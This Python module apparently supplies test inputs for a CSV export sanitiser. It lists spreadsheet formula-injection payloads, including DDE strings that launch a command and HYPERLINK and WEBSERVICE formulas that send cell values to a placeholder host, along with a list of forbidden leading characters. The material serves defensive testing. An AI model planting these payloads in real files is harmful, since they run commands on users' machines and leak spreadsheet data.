"""Cell texts that a spreadsheet would take for a formula or a command if they were not written as text."""

from __future__ import annotations

CELLS = (
    "=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://x.invalid/\"&A1,\"点我\")", "=WEBSERVICE(\"http://x.invalid/\"&B2)",
    "=IMPORTXML(\"http://x.invalid\",\"//a\")", "=DDE(\"cmd\";\"/c calc\";\"1\")", "=1+1+cmd|' /C calc'!A0", "+1+1", "+cmd|'/c calc'!A0",
    "-1+1", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)", "@SUM(1+1)*cmd|'/c calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "=\t1+1", " =1+1", "　=1+1", "'=1+1", "\"=1+1", "=A1\n=B1", ";=1+1", ",=1+1", "|calc",
    "{=1+1}", "=1+1\x00", "==1", "=#REF!", "=RAND()", "%0A=1+1", "\u200b=1+1", "\ufeff=1+1",
)  # fmt: skip
INERT = tuple("=+-@\t\r\n\x00＝＋－＠")
"""Beginnings of a cell that no exported CSV file may have."""
